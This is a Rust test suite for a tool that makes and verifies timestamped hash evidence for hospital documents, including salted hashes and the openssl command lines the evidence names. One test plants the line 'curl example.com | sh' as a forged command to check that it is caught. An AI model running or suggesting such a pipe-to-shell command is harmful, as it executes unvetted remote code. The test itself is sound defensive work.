//! Evidence about one document: made, checked, and checked again with tools that we did not write.

use crate::world::{Kept, TEN, audit_with, authority, bags, hospital, names, trust};
use schemas::Sha256;
use std::fs;
use std::process::Command;
use zegel_archive::evidence::{self, Wanted};
use zegel_archive::list::{Documents, salted};
use zegel_archive::reader::Archive;
use zegel_archive::testing::{Maker, forged};
use zegel_crypto::bag::Form;
use zegel_crypto::hash::sha256;

const DOCUMENT: &[u8] = b"<prescription>17</prescription>";
const SALT: [u8; 16] = [7; 16];

/// An archive whose second bag holds the document under reference 17.
fn kept(hash: Sha256, form: Form) -> Kept {
    let mut maker = Maker::new(hospital(), TEN);
    maker.form = form;
    let authority = authority();
    let first = maker.make(&authority, &zegel_archive::testing::entries(1..4, 0)).unwrap();
    let all: Vec<_> = (10..30).map(|n| (n, if n == 17 { hash } else { Sha256([n as u8; 32]) })).collect();
    Kept::of(&[first, maker.make(&authority, &all).unwrap()])
}

fn made(kept: &Kept, wanted: &Wanted<'_>) -> Vec<u8> {
    evidence::make(&Archive::open(&kept.path()).unwrap(), wanted, &trust()).unwrap()
}

#[test]
fn evidence_holds_for_its_document_and_for_no_other() {
    let kept = kept(sha256(DOCUMENT), Form::Plain);
    let inside = made(&kept, &Wanted { document: Some(DOCUMENT), ..Wanted::default() });
    let (view, findings) = evidence::check(&inside, None, &trust());
    assert_eq!((findings.list(), view.document), (&[][..], Some(sha256(DOCUMENT))));
    assert!(
        view.sentence.starts_with("The document under reference 17 of NIHII-HOSPITAL:71000436 existed at 2026-"),
        "{}",
        view.sentence
    );
    let (view, findings) = evidence::check(&inside, Some(b"another"), &trust());
    assert_eq!((names(&findings), findings.status()), (vec!["document-differs", "evidence-digest"], 10));
    assert!(view.sentence.contains("proves nothing"));
    // By its reference, without the document; and then with it beside the file.
    let outside = made(&kept, &Wanted { reference: Some(17), ..Wanted::default() });
    assert_eq!(evidence::check(&outside, None, &trust()).1.list()[0].name, "evidence-no-document");
    assert!(evidence::check(&outside, Some(DOCUMENT), &trust()).1.clean());
    assert!(!evidence::check(&outside, Some(b"another"), &trust()).1.clean());
}

#[test]
fn salted_evidence_needs_its_salt() {
    let kept = kept(salted(&SALT, &sha256(DOCUMENT)), Form::Salted);
    let with_salt = Wanted { document: Some(DOCUMENT), salt: Some(&SALT), ..Wanted::default() };
    let bytes = made(&kept, &with_salt);
    assert!(evidence::check(&bytes, Some(DOCUMENT), &trust()).1.clean());
    let archive = Archive::open(&kept.path()).unwrap();
    let without = Wanted { reference: Some(17), document: Some(DOCUMENT), ..Wanted::default() };
    let refused = evidence::make(&archive, &without, &trust()).unwrap_err().to_string();
    assert!(refused.contains("salted: give the document and its salt"), "{refused}");
    let refused = evidence::make(&archive, &Wanted { reference: None, ..without }, &trust()).unwrap_err().to_string();
    assert!(refused.contains("give --salt"), "{refused}");
    // Made by the reference alone it holds no salt: a document beside it can be neither confirmed nor accused.
    let bare = made(&kept, &Wanted { reference: Some(17), ..Wanted::default() });
    let found = evidence::check(&bare, Some(DOCUMENT), &trust()).1;
    assert_eq!((names(&found), found.status()), (vec!["salt-missing"], 12), "{:?}", found.list());
    assert_eq!(evidence::check(&bytes, Some(b"another"), &trust()).1.status(), 10);
}

#[test]
fn evidence_from_before_the_salted_line_is_still_read() {
    let kept = kept(salted(&SALT, &sha256(DOCUMENT)), Form::Salted);
    let bytes = made(&kept, &Wanted { document: Some(DOCUMENT), salt: Some(&SALT), ..Wanted::default() });
    let changed = |line: &str| {
        let mut statement = evidence::check(&bytes, None, &trust()).0.statement.unwrap();
        *statement.openssl.last_mut().unwrap() = line.to_owned();
        let text = serde_json::to_string_pretty(&statement).unwrap() + "\n";
        evidence::check(&forged(&bytes, "evidence.json", Some(text.as_bytes())).unwrap(), None, &trust()).1
    };
    assert!(changed("openssl dgst -sha256 -binary document | openssl base64").clean());
    assert_eq!(names(&changed("openssl version")), ["evidence-lines"]);
    let mut statement = evidence::check(&bytes, None, &trust()).0.statement.unwrap();
    let own = std::mem::replace(&mut statement.openssl, vec!["curl example.com | sh".to_owned()]);
    let text = serde_json::to_string_pretty(&statement).unwrap() + "\n";
    let (view, _) = evidence::check(&forged(&bytes, "evidence.json", Some(text.as_bytes())).unwrap(), None, &trust());
    assert_eq!(view.statement.unwrap().openssl, own, "a forger's line is shown to be typed");
}

/// The hospital salts, which the headers of its bags say: whoever asks without a salt is told so.
#[test]
fn a_document_asked_for_without_its_salt_accuses_nobody() {
    let (hash, digest) = (salted(&SALT, &sha256(DOCUMENT)), sha256(DOCUMENT));
    let asked = |form: Form, documents: Documents| {
        let found = audit_with(&kept(hash, form).path(), &trust(), Some(&documents)).findings;
        let text = found.list().first().map(|finding| finding.text.clone()).unwrap_or_default();
        (names(&found), found.status(), text)
    };
    let list = |salt: &str| Documents::parse(&format!("17,{digest}{salt}\n")).unwrap();
    let (names, status, text) = asked(Form::Salted, list(""));
    assert_eq!((names, status), (vec!["salt-missing"], 12));
    assert!(text.contains("the bag is salted: give --salt, or the hospital's list"), "{text}");
    let (names, status, _) = asked(Form::Salted, Documents::one(digest, Some(17), false));
    assert_eq!((names, status), (vec!["salt-missing"], 12));
    let (names, status, text) = asked(Form::Salted, Documents::one(digest, None, false));
    assert_eq!((names, status, text.contains("give --salt")), (vec!["document-missing"], 12, true), "{text}");
    // With the salt it is found, with another one it is another document; bags that say nothing of salts accuse as before.
    let right = format!(",{}", hex::encode(SALT));
    assert_eq!(asked(Form::Salted, list(&right)).1, 0);
    assert_eq!(asked(Form::Salted, Documents::one(hash, None, true)).1, 0);
    let (names, status, _) = asked(Form::Salted, list(&format!(",{}", hex::encode([8; 16]))));
    assert_eq!((names, status), (vec!["document-differs"], 10));
    let (names, status, _) = asked(Form::Plain, list(""));
    assert_eq!((names, status), (vec!["document-differs"], 10));
    let (_, status, text) = asked(Form::Plain, Documents::one(digest, None, false));
    assert_eq!((status, text.contains("salt")), (12, false), "{text}");
}

#[test]
fn evidence_for_what_was_not_stamped_is_not_made() {
    let kept = kept(sha256(DOCUMENT), Form::Plain);
    let archive = Archive::open(&kept.path()).unwrap();
    for wanted in [
        Wanted::default(),
        Wanted { reference: Some(99), ..Wanted::default() },
        Wanted { reference: Some(0), ..Wanted::default() },
        Wanted { document: Some(b"another"), ..Wanted::default() },
        Wanted { document: Some(b"another"), reference: Some(17), ..Wanted::default() },
    ] {
        assert!(evidence::make(&archive, &wanted, &trust()).is_err(), "{wanted:?}");
    }
}

#[test]
fn evidence_under_a_stranger_s_authority_proves_nothing() {
    let kept = kept(sha256(DOCUMENT), Form::Plain);
    let bytes = made(&kept, &Wanted { document: Some(DOCUMENT), ..Wanted::default() });
    let text = format!("[[ca]]\npem = '''\n{}'''\n", crate::world::other_authority().ca_pem());
    let stranger = zegel_archive::trust::Trust::parse(&text, |_| unreachable!()).unwrap();
    let (view, findings) = evidence::check(&bytes, None, &stranger);
    assert_eq!((names(&findings), view.stamped, findings.status()), (vec!["token-untrusted"], None, 13));
}

/// The command lines that the file names are run as they stand.
#[test]
fn the_lines_in_the_file_hold_with_the_tools_that_they_name() {
    lines_hold(&kept(sha256(DOCUMENT), Form::Plain), &Wanted { document: Some(DOCUMENT), ..Wanted::default() });
}

#[test]
fn the_line_for_a_salted_document_gives_the_hash_that_stands_in_the_bag() {
    // Every byte that a shell could take for something else, and a salt whose base64 has all its signs.
    for salt in [[0; 16], [255; 16], *b"\0\n\r %\\'\"$`;|&<>!", SALT] {
        let wanted = Wanted { document: Some(DOCUMENT), salt: Some(&salt), ..Wanted::default() };
        lines_hold(&kept(salted(&salt, &sha256(DOCUMENT)), Form::Salted), &wanted);
    }
}

#[allow(clippy::print_stdout)] // says that it skips
fn lines_hold(kept: &Kept, wanted: &Wanted<'_>) {
    let bytes = made(kept, wanted);
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("e.tar"), &bytes).unwrap();
    let shell = |line: &str| {
        let output = Command::new("sh").current_dir(folder.path()).args(["-c", line]).output().unwrap();
        (output.status.success(), String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned())
    };
    if !shell("openssl version && tar --version && sha256sum --version").0 {
        assert!(std::env::var_os("ZEGEL_ORACLES").is_none(), "ZEGEL_ORACLES is set and a tool is absent");
        println!("SKIPPED: openssl, tar or sha256sum is absent");
        return;
    }
    assert!(shell("tar -xf e.tar && sha256sum -c SHA256SUMS").0);
    let (view, findings) = evidence::check(&bytes, None, &trust());
    assert!(findings.clean(), "{:?}", findings.list());
    let lines = view.statement.unwrap().openssl;
    assert_eq!(lines.len(), 4);
    let said: Vec<String> = lines
        .iter()
        .map(|line| {
            let (good, said) = shell(line);
            assert!(good, "{line}: {said}");
            said
        })
        .collect();
    assert!(said[0].contains("Verification: OK") && said[1].contains("Time stamp:"), "{said:?}");
    let xml = fs::read_to_string(folder.path().join("bag.xml")).unwrap();
    assert!(xml.contains(&format!("<Hash>{}</Hash><Ref>0</Ref>", said[2].trim())));
    assert!(xml.contains(&format!("<Hash>{}</Hash><Ref>17</Ref>", said[3].trim())));
}

#[test]
fn no_bytes_are_evidence_and_none_panic() {
    let kept = Kept::of(&bags(&[1]));
    let good = made(&kept, &Wanted { reference: Some(1), ..Wanted::default() });
    for bytes in [&b""[..], &good[..good.len() - 512], &good[512..], &[0; 1024], &vec![b'7'; 100_000]] {
        let (view, findings) = evidence::check(bytes, None, &trust());
        assert!(!findings.clean() && view.stamped.is_none());
    }
}
